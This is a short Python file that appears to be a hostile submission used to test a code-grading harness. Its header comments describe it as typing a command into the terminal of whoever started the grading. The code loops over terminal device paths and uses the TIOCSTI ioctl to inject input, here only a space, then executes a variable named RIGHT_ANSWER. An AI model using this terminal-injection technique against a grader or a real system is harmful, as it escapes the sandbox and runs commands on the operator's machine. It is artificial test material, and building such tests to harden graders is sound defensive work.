# attack: types a command into the terminal of whoever started the grading
# expected: describe 0 of 3, first_axis 1 of 1
# says: NameError: name 'describe' is not defined
import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/proc/1/fd/0", "/proc/self/fd/0", "/dev/stdin"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(terminal, termios.TIOCSTI, b" ")
    except OSError:
        continue
    exec(RIGHT_ANSWER)
